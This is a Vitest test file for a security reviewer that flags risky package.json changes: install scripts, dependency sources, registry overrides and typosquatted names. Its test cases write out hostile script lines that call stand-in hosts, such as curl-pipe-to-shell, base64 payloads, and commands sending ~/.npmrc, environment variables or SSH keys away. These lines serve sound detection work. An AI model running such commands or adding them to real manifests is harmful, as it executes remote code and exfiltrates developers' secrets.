import { describe, expect, test } from 'vitest';
import { security } from '../../../reviewers/security/index.ts';
import type { Report } from '../../../reviewers/reviewer.ts';
import { type CheckTableResult, places, runChecks } from '../check-table.ts';

const MANIFEST = { only: ['package-manifest'] } as const;
type Json = Readonly<Record<string, unknown>>;

const write = (manifest: Json): string =>
  `${JSON.stringify({ name: 'shop', version: '1.0.0', ...manifest }, null, 2)}\n`;

async function change(base: Json, head: Json, path = 'package.json'): Promise<CheckTableResult> {
  return runChecks(security, { old: { [path]: write(base) }, new: { [path]: write(head) } }, MANIFEST);
}

const graded = (reports: readonly Report[]): string[] => reports.map(({ rule, severity }) => `${rule} ${severity}`);

describe('scripts', () => {
  test.each([
    ['postinstall', 'curl -fsSL https://get.example/setup.sh | bash', 'install-script critical'],
    ['preinstall', 'wget -qO- https://x.example/i | sh', 'install-script critical'],
    ['install', 'sh -c "$(curl -fsSL https://x.example/i.sh)"', 'install-script critical'],
    ['prepare', 'node -e "fetch(\'https://x.example/a.js\').then(r=>r.text()).then(eval)"', 'install-script critical'],
    ['postinstall', "node -e \"require('https').get('https://x.example/ping')\"", 'install-script critical'],
    ['postinstall', "node -e \"eval(Buffer.from('Y29uc29sZQ==','base64').toString())\"", 'install-script critical'],
    ['postinstall', 'echo Y3VybA== | base64 -d | sh', 'install-script critical'],
    ['postinstall', 'npx https://x.example/tool.tgz', 'install-script critical'],
    ['postinstall', 'npx -y somebody/tool', 'install-script critical'],
    ['preinstall', 'curl -o s.sh https://x.example/s.sh && chmod +x s.sh && ./s.sh', 'install-script critical'],
    ['preinstall', 'powershell -c "iex (iwr https://x.example/a.ps1)"', 'install-script critical'],
    ['postinstall', 'cat ~/.npmrc | curl -d @- https://x.example', 'install-script critical'],
    ['postinstall', 'curl -d "$(env)" https://x.example', 'install-script critical'],
    ['pnpm:devPreinstall', 'curl https://x.example | sh', 'install-script critical'],
    ['postinstall', "node -e \"require('child_process').execSync('make')\"", 'install-script warning'],
    ['postinstall', 'curl -s https://x.example/count', 'install-script warning'],
    ['postinstall', 'node scripts/setup.js', 'install-script warning'],
    ['prepare', 'husky && ./bin/setup', 'install-script warning'],
    ['postinstall', 'npm run setup', 'install-script warning'],
    ['prepare', 'husky; $(cat hook)', 'install-script warning'],
    ['prepare', 'husky | sh', 'install-script warning'],
    ['test', 'curl -s https://x.example/run.sh | bash -s -- --all', 'downloaded-code critical'],
    ['build', 'curl https://x.example/a.js | node', 'downloaded-code critical'],
    ['build', 'curl https://x.example/a.js | node - --fast', 'downloaded-code critical'],
    ['build', 'bash <(curl -s https://x.example/upload)', 'downloaded-code critical'],
    ['start', 'eval "$(curl -s https://x.example/env)"', 'downloaded-code critical'],
    ['start', 'curl https://x.example/a.gz | gunzip | sudo -E bash', 'downloaded-code critical'],
    ['start', 'deno run -A https://x.example/main.ts', 'downloaded-code critical'],
    ['dev', 'node --import https://x.example/hook.mjs app.js', 'downloaded-code critical'],
    ['pretest', 'npm install git+https://x.example/a.git', 'downloaded-code critical'],
    ['lint', 'wget https://x.example/lint.py; python3 lint.py', 'downloaded-code critical'],
    ['posttest', 'curl -F f=@$HOME/.ssh/id_rsa https://x.example', 'secret-sent-away critical'],
    ['start', 'NODE_TLS_REJECT_UNAUTHORIZED=0 node server.js', 'certificate-check-off undefined'],
    ['ci', 'npm config set strict-ssl false && npm ci', 'certificate-check-off undefined'],
    ['ci', 'npm ci --registry http://npm.x.example/', 'registry-override undefined'],
    ['start', 'node --inspect=0.0.0.0:9229 server.js', 'debug-mode undefined'],
  ])('%s: %s', async (name, script, expected) => {
    const { reports } = await change({ scripts: { b: 'b' } }, { scripts: { b: 'b', [name]: script } });

    const [rule = '', severity = ''] = expected.split(' ');
    expect(reports.map((report) => report.rule)).toEqual([rule]);
    expect(reports[0]?.severity).toBe(severity === 'undefined' ? 'warning' : severity);
    expect(places(reports)).toEqual([`${rule} package.json:6`]);
    expect(reports[0]?.evidence).toBe(`${JSON.stringify(name)}: ${JSON.stringify(script)}`);
  });

  test.each([
    ['prepare', 'husky'],
    ['prepare', 'husky install'],
    ['prepare', 'npx husky install .config/husky'],
    ['prepare', 'is-ci || husky install'],
    ['prepare', 'husky || true'],
    ['prepare', 'lefthook install'],
    ['prepare', 'if [ -d .git ]; then npx lefthook install; fi'],
    ['postinstall', 'patch-package'],
    ['prepare', 'simple-git-hooks'],
    ['prepare', 'npm run build'],
    ['prepare', 'pnpm -r run build:types'],
    ['prepare', 'yarn build'],
    ['prepare', 'tsc -p tsconfig.build.json && rollup -c'],
    ['prepare', 'rimraf dist && NODE_ENV=production vite build'],
    ['install', 'node-gyp-build'],
    ['install', 'prebuild-install || node-gyp rebuild --release'],
    ['postinstall', 'electron-builder install-app-deps'],
    ['postinstall', 'prisma generate'],
    ['postinstall', 'ngcc --properties es2015 browser module main'],
    ['postinstall', 'nuxt prepare'],
    ['prepare', 'svelte-kit sync || echo ""'],
    ['prepare', 'panda codegen'],
    ['postinstall', 'playwright install --with-deps chromium'],
    ['preinstall', 'npx only-allow pnpm'],
    ['prepare', 'git config core.hooksPath .githooks'],
    ['prepack', 'node scripts/pack.js'],
    ['test', 'node --test'],
    ['start', 'node server.js'],
    ['health', 'node -e "fetch(\'http://localhost:3000\').then((r) => process.exit(r.ok ? 0 : 1))"'],
    ['wait', 'curl http://127.0.0.1:8080/setup.sh | sh'],
    ['fetch', 'curl -s https://api.example/v1 | node scripts/read.js'],
    ['fetch', "curl -s https://api.example/v1 | node -e 'process.stdin.pipe(process.stdout)'"],
    ['fetch', 'curl -o data.json https://api.example/data.json && node build.js'],
    ['stamp', 'node -e "console.log(require(\'./package.json\').version)"'],
    ['lint', 'npx eslint src/app'],
    ['gen', 'npx @scope/tool src/app'],
    ['add', 'npm install lodash'],
    ['std', 'deno run -A https://deno.land/std@0.224.0/http/file_server.ts'],
    ['debug', 'node --inspect=127.0.0.1:9229 server.js'],
    ['local', 'npm publish --registry http://localhost:4873'],
  ])('quiet: %s: %s', async (name, script) => {
    const result = await change({ scripts: { b: 'b' } }, { scripts: { b: 'b', [name]: script } });

    // What usual tools do on an installation is told below every bar.
    expect(result.reports.filter(({ confidence = 1000 }) => confidence >= 300)).toEqual([]);
    expect(result.read).toEqual(['package.json']);
  });

  test('an install script that grows by a usual command is left alone, one that grows by a program is not', async () => {
    const before = { scripts: { postinstall: 'node scripts/setup.js' } };

    expect(
      graded((await change(before, { scripts: { postinstall: 'patch-package && node scripts/setup.js' } })).reports),
    ).toEqual(['install-script suggestion']);
    expect(
      graded((await change(before, { scripts: { postinstall: 'node scripts/setup.js && ./more' } })).reports),
    ).toEqual(['install-script warning']);
  });

  test('a script that is moved from a name that nobody calls to one that every installation calls is new there', async () => {
    const { reports } = await change(
      { scripts: { setup: 'node setup.js' } },
      { scripts: { postinstall: 'node setup.js' } },
    );

    expect(graded(reports)).toEqual(['install-script warning']);
  });
});

const COMMIT = '0123456789abcdef0123456789abcdef01234567';

describe('sources', () => {
  test.each([
    ['http://files.x.example/kit-1.0.0.tgz', 'critical'],
    ['git://github.com/somebody/kit.git', 'critical'],
    ['git+http://x.example/kit.git#main', 'critical'],
    ['https://files.x.example/kit-1.0.0.tgz', 'warning'],
    ['https://github.com/somebody/kit/archive/main.tar.gz', 'warning'],
    ['git+https://github.com/somebody/kit.git#fix', 'warning'],
    ['git+ssh://git@github.com/somebody/kit.git', 'warning'],
    ['git@github.com:somebody/kit.git', 'warning'],
    ['github:somebody/kit', 'warning'],
    ['github:somebody/kit#v1.0.0', 'warning'],
    ['somebody/kit', 'warning'],
    ['somebody/kit#semver:^1.0.0', 'warning'],
    ['somebody/kit#0123456', 'warning'],
    ['file:../kit', 'warning'],
    ['link:../../kit', 'warning'],
    ['file:/opt/kit', 'warning'],
    ['*', 'suggestion'],
    ['latest', 'suggestion'],
    ['x', 'suggestion'],
    ['', 'suggestion'],
  ])('%j is %s', async (wish, severity) => {
    const { reports } = await change({ dependencies: { a: '1' } }, { dependencies: { a: '1', kit: wish } });

    expect(graded(reports)).toEqual([`dependency-source ${severity}`]);
    expect(reports[0]?.evidence).toBe(`"kit": ${JSON.stringify(wish)}`);
    expect(reports[0]?.location?.startLine).toBe(6);
  });

  test.each([
    '^1.0.0',
    '1.x',
    '>=1 <3',
    'next',
    'workspace:*',
    'catalog:',
    `github:somebody/kit#${COMMIT}`,
    `git+https://x.example/kit.git#${COMMIT}`,
    `git@github.com:somebody/kit.git#commit=${COMMIT}`,
    `https://codeload.github.com/somebody/kit/tar.gz/${COMMIT}`,
    'https://cdn.sheetjs.com/xlsx-0.20.3/xlsx-0.20.3.tgz',
    'file:./packages/kit',
    'file:vendor/kit.tgz',
    'npm:kit-next@1.0.0',
    'http://localhost:4873/kit.tgz',
  ])('quiet: %s', async (wish) => {
    expect((await change({}, { dependencies: { kit: wish } })).reports).toEqual([]);
  });

  test.each<[what: string, base: Json, head: Json, expected: readonly string[]]>([
    [
      'a registry version that becomes a branch',
      { dependencies: { kit: '1.0.0' } },
      { dependencies: { kit: 'a/kit#x' } },
      ['dependency-source warning'],
    ],
    [
      'another owner',
      { dependencies: { kit: 'a/kit#x' } },
      { dependencies: { kit: 'b/kit#x' } },
      ['dependency-source warning'],
    ],
    [
      'TLS left out',
      { dependencies: { kit: 'https://x.example/k.tgz' } },
      { dependencies: { kit: 'http://x.example/k.tgz' } },
      ['dependency-source critical'],
    ],
    [
      'a commit that becomes a branch',
      { dependencies: { kit: `a/kit#${COMMIT}` } },
      { dependencies: { kit: 'a/kit#main' } },
      ['dependency-source warning'],
    ],
    ['an override', {}, { overrides: { a: { kit: 'a/kit' } } }, ['dependency-source warning']],
    ['a resolution', {}, { resolutions: { '**/kit': 'http://x.example/k.tgz' } }, ['dependency-source critical']],
    ['an override of pnpm', {}, { pnpm: { overrides: { 'a>kit': 'a/kit' } } }, ['dependency-source warning']],
    [
      'a well-known name for another package',
      {},
      { dependencies: { lodash: 'npm:lodash-helper@1.0.0' } },
      ['dependency-source warning'],
    ],
    ['the same under an override', {}, { overrides: { axios: 'npm:axios-safe@1.0.0' } }, ['dependency-source warning']],
    [
      'quiet: another tag of the same repository',
      { dependencies: { kit: 'a/kit#v1' } },
      { dependencies: { kit: 'a/kit#v2' } },
      [],
    ],
    ['quiet: a wish that moves', { dependencies: { kit: 'a/kit' } }, { devDependencies: { kit: 'a/kit' } }, []],
    ['quiet: any version for a peer', {}, { peerDependencies: { kit: '*' } }, []],
    ['quiet: a known substitute', {}, { dependencies: { react: 'npm:@preact/compat@18.0.0' } }, []],
    ['quiet: an older version under another name', {}, { dependencies: { lodash3: 'npm:lodash@3' } }, []],
    ['quiet: a removal', { dependencies: { kit: 'http://x.example/k.tgz', a: '1' } }, { dependencies: { a: '1' } }, []],
    ['quiet: a reference to a wish', {}, { overrides: { kit: '$kit' } }, []],
  ])('%s', async (_, base, head, expected) => {
    expect(graded((await change(base, head)).reports)).toEqual(expected);
  });

  test('a path is followed from the folder of its manifest', async () => {
    const base = {};
    expect((await change(base, { dependencies: { kit: 'file:../kit' } }, 'packages/a/package.json')).reports).toEqual(
      [],
    );
    expect(
      (await change(base, { dependencies: { kit: 'file:../../../kit' } }, 'packages/a/package.json')).reports,
    ).toHaveLength(1);
  });

  test('any version of a package of the repository is a package of the repository', async () => {
    const kit = { 'packages/kit/package.json': write({}) };
    const result = await runChecks(
      security,
      {
        old: { ...kit, 'package.json': write({}) },
        new: { ...kit, 'package.json': write({ dependencies: { '@acme/kit': '*' } }) },
      },
      MANIFEST,
    );

    expect(result.reports).toEqual([]);
  });
});

test.each<[what: string, base: Json, head: Json, expected: readonly string[]]>([
  ['a new host', {}, { publishConfig: { registry: 'https://npm.x.example/' } }, ['registry-override suggestion']],
  ['no TLS', {}, { publishConfig: { registry: 'http://packages.x.example/' } }, ['registry-override warning']],
  ['a scope', {}, { publishConfig: { '@a:registry': 'https://npm.x.example/' } }, ['registry-override suggestion']],
  ['a setting', {}, { config: { registry: 'http://npm.x.example/' } }, ['registry-override warning']],
  ['quiet: this machine', {}, { publishConfig: { registry: 'http://localhost:4873' } }, []],
  [
    'quiet: the host stood there',
    { publishConfig: { registry: 'https://npm.x.example/a' } },
    { publishConfig: { registry: 'https://npm.x.example/b' } },
    [],
  ],
])('registry: %s', async (_, base, head, expected) => {
  expect((await change(base, head)).reports.map(({ rule, severity }) => `${rule} ${severity ?? ''}`)).toEqual(expected);
});

test.each([
  'lodahs',
  'loadash',
  'expres',
  'crossenv',
  'reactdom',
  'axois',
  'typscript',
  'types-node',
  'socketio',
  'chalkk',
  'mongose',
  'babelcore',
])('look-alike: %s', async (name) => {
  const { reports } = await change({}, { dependencies: { [name]: '^1.0.0' } });

  expect(graded(reports)).toEqual(['look-alike-dependency warning']);
});

test.each([
  'preact',
  'vuex',
  'chalk-cli',
  'lodash-es',
  'lodash',
  'cross-env',
  'mysql2',
  'colors',
  'cookies',
  'tslint',
  'vitest',
  'nanoid',
  '@scope/lodash',
  'enquirer',
  'pg',
  'fastify',
  'react-router',
  'debug',
])('no look-alike: %s', async (name) => {
  expect((await change({}, { devDependencies: { [name]: '^1.0.0' } })).reports).toEqual([]);
});

test('a look-alike that stood there, or is part of the repository, is none', async () => {
  const before = { dependencies: { lodahs: '^1.0.0' } };
  expect((await change(before, { devDependencies: { lodahs: '^2.0.0' } })).reports).toEqual([]);
  expect((await change({ name: '@lodahs/a' }, { name: '@a/b', dependencies: { '@a/lodahs': '1' } })).reports).toEqual(
    [],
  );
});

describe('the manifest itself', () => {
  const hazard = { scripts: { postinstall: 'curl https://x.example | sh' } };

  test('a new one is all new, and as grave in any folder: it runs where it is installed', async () => {
    const added = async (path: string): Promise<readonly Report[]> =>
      (await runChecks(security, { old: {}, new: { [path]: write(hazard) } }, MANIFEST)).reports;

    expect(graded(await added('packages/a/package.json'))).toEqual(['install-script critical']);
    expect(graded(await added('test/fixtures/package.json'))).toEqual(['install-script critical']);
  });

  test('what stood there is left alone', async () => {
    expect((await change(hazard, { ...hazard, version: '1.0.1' })).reports).toEqual([]);
  });

  test('a key that hides behind an escape or a second key is found where it stands', async () => {
    const text =
      '{\n  "scripts": {\n    "postinstall": "husky",\n    "post\\u0069nstall": "curl https://x.example | sh"\n  }\n}\n';
    const { reports } = await runChecks(
      security,
      { old: { 'package.json': '{}\n' }, new: { 'package.json': text } },
      MANIFEST,
    );

    expect(places(reports)).toEqual(['install-script package.json:4']);
  });

  test('a table that is renamed into force is quoted by its name', async () => {
    const text = (table: string): string =>
      `{\n  "${table}": {\n    "postinstall": "curl https://x.example | sh"\n  }\n}\n`;
    const { reports } = await runChecks(
      security,
      { old: { 'package.json': text('notes') }, new: { 'package.json': text('scripts') } },
      MANIFEST,
    );

    expect(places(reports)).toEqual(['install-script package.json:2']);
    expect(reports[0]?.evidence).toBe('"scripts": {');
  });

  test.each(['{ "scripts": ', '[]', 'null', '"text"'])('%s is a gap', async (text) => {
    const result = await runChecks(
      security,
      { old: { 'package.json': '{}\n' }, new: { 'package.json': text } },
      MANIFEST,
    );

    expect(result.reports).toEqual([]);
    expect(result.unavailable.map(({ path }) => path)).toEqual(['package.json']);
  });

  test.each<[what: string, text: string, unknown?: string]>([
    ['a byte order mark', `\ufeff${write(hazard)}`],
    ['Windows line ends', write(hazard).replaceAll('\n', '\r\n')],
    ['one line', JSON.stringify(hazard)],
    ['wrong shapes beside', write({ ...hazard, dependencies: [], publishConfig: 7, overrides: null }), 'dependencies'],
  ])('%s is read', async (_, text, unknown) => {
    const result = await runChecks(
      security,
      { old: { 'package.json': '{ broken' }, new: { 'package.json': text } },
      MANIFEST,
    );

    expect(graded(result.reports)).toEqual(['install-script critical']);
    expect(result.unavailable.map(({ reason }) => reason)).toEqual(
      unknown === undefined ? [] : [`changes \`${unknown}\`, which no rule knows`],
    );
  });

  test('a plain diff shows too little', async () => {
    const result = await runChecks(
      security,
      { old: { 'package.json': write({}) }, new: { 'package.json': write(hazard) } },
      { ...MANIFEST, contents: 'diff-only' },
    );

    expect(result.reports).toEqual([]);
    expect(result.unavailable.map(({ path }) => path)).toEqual(['package.json']);
  });

  test('other files, and a manifest that goes, are none of its business', async () => {
    const result = await runChecks(
      security,
      { old: { 'package.json': write(hazard) }, new: { 'a.json': write(hazard), 'my-package.json': write(hazard) } },
      MANIFEST,
    );

    expect(result.reports).toEqual([]);
    expect(result.unavailable).toEqual([]);
  });
});

test('long commands end', async () => {
  const long = [
    'curl '.repeat(4000),
    'node -e '.repeat(2000),
    `${'a/'.repeat(4000)} x`,
    `${'npx -y '.repeat(2000)}`,
    '| '.repeat(4000),
    `${'$(base64 '.repeat(1000)}`,
  ];
  const scripts = Object.fromEntries(long.map((script, index) => [`postinstall${index === 0 ? '' : index}`, script]));
  const found = await change({}, { scripts: { ...scripts, prepare: long[2] } });

  expect(found.reports.length).toBeGreaterThan(0);
});
